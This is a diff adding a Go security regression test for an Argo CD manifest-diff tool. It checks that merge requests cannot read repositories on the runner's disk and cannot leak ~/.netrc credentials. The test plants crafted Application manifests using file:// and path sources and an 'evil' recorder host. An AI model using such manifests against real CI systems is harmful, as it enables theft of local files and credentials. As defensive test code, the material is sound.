@@ -228,3 +228,59 @@ func TestMergeRequestCannotPickTheCluster(t *testing.T) {
 		t.Errorf("stderr does not say the live change waits for the merge:\n%s", errOut)
 	}
 }
+
+// TestMergeRequestCannotReadLocalRepos: a source naming a repository on
+// the job's machine (file:// or a path) is refused unless the target
+// branch's localRepos lists it; ~/.netrc's default entry goes to no host
+// a merge request names. Markers planted in the local repository and in
+// the netrc password show nowhere, and the other host gets no credential.
+func TestMergeRequestCannotReadLocalRepos(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds and runs the real binary")
+	}
+	bin := buildManifestdiff(t)
+	const marker, netrcPass = "Local-Repo-Marker-Zq5", "Netrc-Default-Marker-Wx6"
+	outside := t.TempDir()
+	work := filepath.Join(outside, "work")
+	gitRun(t, outside, "init", "-q", "-b", "main", work)
+	writeHome(t, work, "x/cm.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: loot}\ndata: {k: "+marker+"}\n")
+	gitRun(t, work, "-c", "user.name=a", "-c", "user.email=a@b", "add", "-A")
+	gitRun(t, work, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "-m", "x")
+	home := t.TempDir()
+	writeHome(t, home, ".netrc", "default login u password "+netrcPass+"\n")
+	evil := newRecorder(t)
+
+	f := newFleet(t)
+	base := gitRun(t, f.Dir, "rev-parse", "HEAD")
+	app := func(name, url string) string {
+		return "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: " + name + ", namespace: argocd}\n" +
+			"spec:\n  project: default\n  source: {repoURL: '" + url + "', targetRevision: main, path: x}\n" +
+			"  destination: {server: https://kubernetes.default.svc, namespace: x}\n"
+	}
+	f.write(t, "argocd/qa/app-fileurl.yaml", app("fileurl-qa", "file://"+work))
+	f.write(t, "argocd/qa/app-path.yaml", app("path-qa", work))
+	f.write(t, "argocd/qa/app-netrc.yaml", app("netrc-qa", evil.URL+"/loot.git"))
+	head := f.commit(t, "read the runner's disk")
+	cmd := exec.Command(bin, "--repo", f.Dir, "--base", base, "--head", head, "--env", "qa", "--cache-dir", t.TempDir(), "-o", "json")
+	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home}
+	var out, errOut strings.Builder
+	cmd.Stdout, cmd.Stderr = &out, &errOut
+	_ = cmd.Run()
+	if strings.Contains(out.String()+errOut.String(), marker) || strings.Contains(out.String()+errOut.String(), netrcPass) {
+		t.Error("a planted marker is in the output")
+	}
+	for _, name := range []string{"qa/fileurl-qa", "qa/path-qa"} {
+		if st, msg := appStatus(t, out.String(), name); st != "error" || !strings.Contains(msg, "local repository not allowed") {
+			t.Errorf("%s: %s %q, want the local repository refused", name, st, msg)
+		}
+	}
+	paths, auths := evil.seen()
+	if len(paths) == 0 {
+		t.Fatal("the other host received no request: the test proves nothing")
+	}
+	for i, a := range auths {
+		if a != "" {
+			t.Errorf("request %s carried ~/.netrc's default credentials", paths[i])
+		}
+	}
+}
